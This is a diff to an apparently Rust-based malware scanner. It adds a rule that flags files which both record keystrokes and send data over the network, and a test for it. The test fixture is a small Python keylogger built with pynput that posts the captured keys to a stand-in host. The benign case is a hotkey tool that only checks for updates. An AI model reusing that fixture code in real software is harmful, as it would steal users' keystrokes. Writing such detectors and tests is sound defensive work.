@@ -555,6 +555,19 @@ impl Analyzer {
                     Some(*scope),
                 ));
             }
+            // Keystrokes captured in a file that sends data: a keylogger.
+            if let (Some((_, line, scope, snip)), false) =
+                (facts.key_capture.first(), facts.upload.is_empty())
+            {
+                findings_extra.push(raw(
+                    "EXFIL-SEND-COLLECTED",
+                    path,
+                    *line,
+                    snip,
+                    "records keystrokes in a file that sends data over the network".into(),
+                    Some(*scope),
+                ));
+            }
             // Executable memory and native code started in the same file: a shellcode loader.
             if !facts.native_alloc.is_empty()
                 && let Some((_, line, scope, snip)) = facts.native_run.first().cloned()
@@ -1623,6 +1636,24 @@ mod tests {
         };
         assert!(rules_of("runpy.run_path('a.py')").contains(&"DL-WRITE-EXEC".to_string()));
         assert!(!rules_of("print('a.py')").contains(&"DL-WRITE-EXEC".to_string()));
+    }
+
+    #[test]
+    fn keystrokes_captured_in_a_file_that_uploads_are_a_keylogger() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let pkg = |body: &str| {
+            vec![pf(
+                "p-1/p/keys.py",
+                &format!(
+                    "from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\n{body}\nkeyboard.Listener(on_press=on_press).start()\n"
+                ),
+            )]
+        };
+        let sent = pkg("    requests.post('https://x.test/k', data=''.join(buf))");
+        assert!(hit(&a, &sent, "EXFIL-SEND-COLLECTED").is_some());
+        // A hotkey tool that only checks for updates sends nothing.
+        let fetch = pkg("    requests.get('https://x.test/version')");
+        assert!(hit(&a, &fetch, "EXFIL-SEND-COLLECTED").is_none());
     }
 
     #[test]
